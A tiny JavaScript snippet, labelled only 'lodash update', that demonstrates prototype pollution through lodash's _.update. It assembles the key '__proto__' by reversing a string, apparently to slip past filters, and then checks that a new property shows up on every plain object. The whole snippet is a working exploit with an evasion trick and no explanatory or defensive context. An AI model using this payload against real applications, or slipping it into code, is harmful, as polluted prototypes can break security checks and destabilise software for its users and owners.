// lodash update
const _ = require('lodash');
const w = [...'__otorp__'].reverse().join('');
_.update({}, [w, 'zz'], () => 1);
console.log({}.zz);
